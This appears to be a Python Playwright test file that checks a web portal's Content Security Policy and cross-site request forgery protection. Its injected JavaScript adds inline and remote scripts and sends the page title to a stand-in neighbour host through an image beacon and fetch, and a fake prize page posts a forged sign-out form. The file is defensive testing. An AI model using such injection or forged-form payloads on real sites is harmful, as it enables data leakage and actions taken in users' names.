"""What keeps other people's pages and scripts out, as a browser holds it."""

import pytest
from playwright.async_api import Route

from tests.live.browser.conftest import SignIn, Windows

pytestmark = [pytest.mark.live, pytest.mark.timeout(120), pytest.mark.asyncio(loop_scope="session")]
NEIGHBOUR = "http://127.0.0.1:9"
"""another page of the same machine: a browser counts it as the same site, and sends it our cookies"""


async def test_a_script_that_slips_into_a_page_neither_runs_nor_loads_nor_tells(
    window: Windows, person: SignIn
) -> None:
    browser = await window()
    await browser.sign_in(person)
    await browser.page.evaluate(
        """neighbour => {
            const add = (name, what) => document.body.append(Object.assign(document.createElement(name), what));
            add("script", { textContent: "window.slipped = 1" });
            add("script", { src: `${neighbour}/script.js` });
            add("img", { src: `${neighbour}/told?what=${document.title}` });
            return fetch(`${neighbour}/told`).catch(() => {});
        }""",
        NEIGHBOUR,
    )
    assert await browser.page.evaluate("window.slipped") is None
    assert not [one for one in browser.sent_to(NEIGHBOUR) if not one.failure]
    stopped = [one for one in browser.complaints if "Content Security Policy" in one]
    assert len(stopped) >= 4, browser.complaints
    browser.complaints.clear()


@pytest.mark.parametrize("seal", ["", "0" * 64], ids=["no seal", "a made-up seal"])
async def test_a_form_on_another_page_does_nothing_in_the_name_of_who_is_signed_in(
    window: Windows, person: SignIn, seal: str
) -> None:
    browser = await window()
    await browser.sign_in(person)

    async def trap(route: Route) -> None:
        form = f'<form method="post" action="{browser.portal}/sign-out"><input name="seal" value="{seal}">'
        await route.fulfill(
            content_type="text/html",
            body=f"{form}<button>Win a prize</button></form><link rel=icon href=data:>",
        )

    await browser.page.route(f"{NEIGHBOUR}/**", trap)
    await browser.open(f"{NEIGHBOUR}/prize")
    await browser.press("Win a prize")
    await browser.sees("You do not have access to this")
    await browser.open("/member")
    await browser.sees("You take part in mutual recognition.")
